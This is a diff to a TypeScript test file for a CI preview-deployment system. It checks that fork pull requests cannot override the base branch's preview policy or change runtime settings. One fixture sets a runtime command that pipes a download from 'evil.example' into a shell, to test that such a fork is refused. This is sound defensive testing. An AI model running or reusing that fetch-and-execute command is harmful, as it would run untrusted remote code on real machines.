@@ -64,7 +64,7 @@ t.test('a pull request decision is one value, decided and rendered without a dat
     apps: [{ app: 'shop', valid: true, diagnostics: [], files: spec(8081), rollback: null }],
     production: new Map([['shop', { files: spec(8080), sha: 'a'.repeat(40) }]]),
   };
-  const pr = { number: 4, headSha: sha, headRef: 'feature', actor: 'github:ada', fork: false, draft: false, approvedSha: null, activeInTenant: 0, tenantLimit: 10, activeInRepository: 0, suspended: false, livePreviews: 0 };
+  const pr = { number: 4, headSha: sha, headRef: 'feature', actor: 'github:ada', fork: false, draft: false, approvedSha: null, activeInTenant: 0, tenantLimit: 10, activeInRepository: 0, suspended: false, livePreviews: 0, baseManifest: manifest as never };
   const checks = ['validate', 'plan', 'preview'] as const;
 
   const same = decidePullRequest({ commit, checks, pullRequest: pr });
@@ -95,4 +95,40 @@ t.test('a pull request decision is one value, decided and rendered without a dat
   const unreadable = decidePullRequest({ commit: { kind: 'unreadable', sha, reason: 'could not find commit' }, checks, pullRequest: null });
   t.same(renderPullRequest(unreadable).checks.map((c) => c.key), ['validate']);
   t.equal(renderPullRequest(unreadable).summary, null);
+
+  const refused = renderPullRequest(decidePullRequest({ commit: { kind: 'refused', sha, reason: 'pack for refs/pull/4/head is over 1 MiB (limit); nothing was stored' }, checks, pullRequest: null }));
+  t.match(refused.checks, [{ key: 'validate', output: { conclusion: 'failure', title: /over a fetch limit/, summary: /pack for refs\/pull\/4\/head is over 1 MiB/ } }], 'a commit refused by a fetch limit fails wharf/validate with the reason');
+});
+
+t.test('the preview policy is the base branch’s, never the head’s', async (t) => {
+  const sha = 'd'.repeat(40);
+  const app = { name: 'shop', files: ['apps/shop/*.yaml'], runtime: {}, replicas: 1, env: [], target: 'local', driftMode: 'correct' as const };
+  const policy = (forkPolicy: 'never' | 'approval' | 'always', extra: object = {}) => ({ enabled: true, ttlHours: 72, forkPolicy, maxConcurrent: 10, drafts: false, ...extra });
+  const manifest = (previews: object, apps = [app]) => ({ productionBranch: 'main', apps, previews, comments: { enabled: true } }) as never;
+  const commitWith = (m: unknown) => ({
+    kind: 'read' as const,
+    sha,
+    versionId: 9,
+    manifest: m as never,
+    diagnostics: [],
+    apps: [{ app: 'shop', valid: true, diagnostics: [], files: [{ path: 'apps/shop/main.yaml', content: 'modules: []\n' }], rollback: null }],
+    production: new Map(),
+  });
+  const pr = { number: 5, headSha: sha, headRef: 'patch-1', actor: 'github:mallory', fork: true, draft: false, approvedSha: null, activeInTenant: 0, tenantLimit: 10, activeInRepository: 0, suspended: false, livePreviews: 0 };
+  const checks = ['validate', 'plan', 'preview'] as const;
+  const decide = (head: unknown, base: unknown, extra: object = {}) =>
+    decidePullRequest({ commit: commitWith(head), checks, pullRequest: { ...pr, baseManifest: base as never, ...extra } }).pullRequest;
+
+  t.match(decide(manifest(policy('always')), manifest(policy('approval'))), { preview: { deploy: false, refusal: { reason: 'fork-needs-approval' } } }, "a fork's own forkPolicy: always does not skip approval");
+  t.match(decide(manifest(policy('always')), null), { preview: { refusal: { reason: 'fork-needs-approval' } } }, 'without a base manifest the default (approval) holds');
+  t.match(decide(manifest(policy('approval')), manifest(policy('always'))), { preview: { deploy: true, withSecrets: false } }, "the base branch's forkPolicy: always deploys without secrets");
+  t.match(decide(manifest(policy('approval', { drafts: true })), manifest(policy('approval')), { fork: false, draft: true }), { preview: { refusal: { reason: 'draft' } } }, "the head's drafts: true does not preview a draft");
+  t.match(decide(manifest(policy('approval', { ttlHours: 8760 })), manifest(policy('approval', { ttlHours: 2 })), { fork: false }), { ttlHours: 2 }, "the TTL is the base branch's");
+  t.match(decide(manifest(policy('approval', { enabled: false })), manifest(policy('approval')), { fork: false }), { preview: { deploy: true } }, "the head cannot turn previews off for itself either");
+
+  const runtimeApp = { ...app, runtime: { command: ['sh', '-c', 'curl evil.example | sh'] } };
+  t.match(decide(manifest(policy('approval'), [runtimeApp]), manifest(policy('always')), { approvedSha: sha }), { preview: { deploy: false, refusal: { reason: 'fork-runtime', apps: ['shop'] } } }, 'a fork that changes the runtime command is not previewed, approved or not');
+  t.match(decide(manifest(policy('approval'), [{ ...app, replicas: 50 }]), manifest(policy('always'))), { preview: { refusal: { reason: 'fork-runtime' } } }, 'nor one that asks for more replicas');
+  t.match(decide(manifest(policy('approval'), [{ ...app, target: 'agent:prod' }]), manifest(policy('always'))), { preview: { refusal: { reason: 'fork-runtime' } } }, 'nor one that picks another target');
+  t.match(decide(manifest(policy('approval'), [runtimeApp]), manifest(policy('approval')), { fork: false }), { preview: { deploy: true } }, 'a branch of the repository may change it');
 });
